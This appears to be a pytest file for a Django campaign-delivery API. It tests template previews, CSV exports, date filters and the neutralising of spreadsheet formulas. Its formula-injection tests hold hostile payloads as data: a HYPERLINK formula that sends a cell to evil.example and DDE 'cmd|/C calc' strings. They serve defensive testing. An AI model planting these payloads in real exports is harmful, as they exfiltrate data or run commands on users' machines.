"""A template rendered for one person, and a campaign's results as CSV."""

import csv
import datetime
import io

import pytest
from django.utils import timezone

from delivery import services
from delivery.models import Delivery
from tests import factories
from tests.api.helpers import error_of

pytestmark = pytest.mark.django_db


def test_a_template_preview_shows_the_message_as_one_person_would_get_it(api):
    factories.recipient(external_id="E7", first_name='Zoë "Z"')
    card = {"type": "AdaptiveCard", "version": "1.4", "body": [{"type": "TextBlock", "text": "Hi {{first_name}}"}]}
    template = factories.template(kind="adaptive_card", text="", card=card)

    response = api.get(f"/api/v1/templates/{template.pk}/preview/?recipient=E7")

    assert response.status_code == 200
    activity = response.json()["activity"]
    assert activity["attachments"][0]["content"]["body"][0]["text"] == 'Hi Zoë "Z"'


def test_a_preview_for_nobody_or_an_unknown_person_names_the_field(api):
    template = factories.template()
    missing = api.get(f"/api/v1/templates/{template.pk}/preview/")
    unknown = api.get(f"/api/v1/templates/{template.pk}/preview/?recipient=nobody")
    assert missing.status_code == unknown.status_code == 400
    assert "recipient" in error_of(missing)["fields"] and "nobody" in error_of(unknown)["message"]


def launched_campaign():
    people = [factories.recipient(external_id=f"X{n}") for n in range(3)]
    campaign = factories.campaign()
    services.campaign_launch(campaign_id=campaign.pk)
    Delivery.objects.filter(campaign=campaign, recipient=people[0]).update(
        status="sent", activity_id="1:abc", finished_at=timezone.now()
    )
    Delivery.objects.filter(campaign=campaign, recipient=people[1]).update(
        status="failed", error_code="ConversationBlockedByUser", last_status_code=403,
        finished_at=timezone.now() - datetime.timedelta(hours=2),
    )
    return campaign


def test_results_export_as_csv_with_the_list_filters(api):
    campaign = launched_campaign()

    everything = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/export/")
    failed = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/export/?status=failed")

    assert everything.status_code == 200 and everything["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(everything.streaming_content).decode())))
    assert [(r["external_id"], r["status"]) for r in rows] == [("X0", "sent"), ("X1", "failed"), ("X2", "pending")]
    assert rows[1]["error_code"] == "ConversationBlockedByUser" and rows[1]["last_status_code"] == "403"
    [only] = list(csv.DictReader(io.StringIO(b"".join(failed.streaming_content).decode())))
    assert only["external_id"] == "X1"


def test_deliveries_filter_by_when_they_ended(api):
    campaign = launched_campaign()
    since = (timezone.now() - datetime.timedelta(hours=1)).isoformat()

    recent = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/", {"finished_after": since})

    assert [row["recipient"] for row in recent.json()["results"]] == ["X0"]


def test_a_time_with_an_offset_the_database_does_not_take_is_read_as_the_same_moment_in_utc(api):
    campaign = launched_campaign()
    # +19:01 is a valid ISO 8601 offset that PostgreSQL refuses; the filter means the same moment.
    far_east = datetime.timezone(datetime.timedelta(hours=19, minutes=1))
    an_hour_ago = (timezone.now() - datetime.timedelta(hours=1)).astimezone(far_east).isoformat()

    after = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/", {"finished_after": an_hour_ago})
    before = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/", {"finished_before": "0565-07-18T01:25:53+19:01"})

    assert after.status_code == 200 and [row["recipient"] for row in after.json()["results"]] == ["X0"]
    assert before.status_code == 200 and before.json()["results"] == []


def test_a_time_that_has_no_utc_equivalent_is_a_400_naming_the_filter(api):
    campaign = launched_campaign()

    response = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/", {"finished_after": "0001-01-01T00:00:00+05:00"})

    assert response.status_code == 400
    assert "finished_after" in error_of(response)["fields"]


def test_exporting_an_unknown_campaign_is_a_404(api):
    assert api.get("/api/v1/campaigns/999999/deliveries/export/").status_code == 404


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(api):
    campaign = factories.campaign()
    for n, formula in enumerate(FORMULAS):
        factories.recipient(external_id=formula, email=f"formula{n}@example.com")
    services.campaign_launch(campaign_id=campaign.pk)
    Delivery.objects.filter(campaign=campaign).update(status="failed", error_message="=cmd|'/C calc'!A0")

    response = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/export/")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    # a tab or a carriage return is also a separator: the formula after it is neutralised too
    expected = ["'" + formula.replace("\t=", "\t'=").replace("\r=", "\r'=") for formula in FORMULAS]
    assert sorted(r["external_id"] for r in rows) == sorted(expected)
    assert {r["error_message"] for r in rows} == {"'=cmd|'/C calc'!A0"}
    assert {r["attempts"] for r in rows} == {"0"}  # numbers stay numbers


def test_the_export_quotes_every_cell_so_a_semicolon_cannot_start_a_formula(api):
    # Excel splits on ";" where that is the list separator: an unquoted "E1;=cmd..." becomes two cells.
    campaign = factories.campaign()
    factories.recipient(external_id="E1;=cmd|' /C calc'!A0", email="semi@example.com")
    services.campaign_launch(campaign_id=campaign.pk)
    Delivery.objects.filter(campaign=campaign).update(status="failed", error_message="Bad;+1+cmd|' /C calc'!A0")

    response = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/export/")

    text = b"".join(response.streaming_content).decode()
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (delimiter, row)
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["external_id"] == "E1;'=cmd|' /C calc'!A0" and row["error_message"] == "Bad;'+1+cmd|' /C calc'!A0"
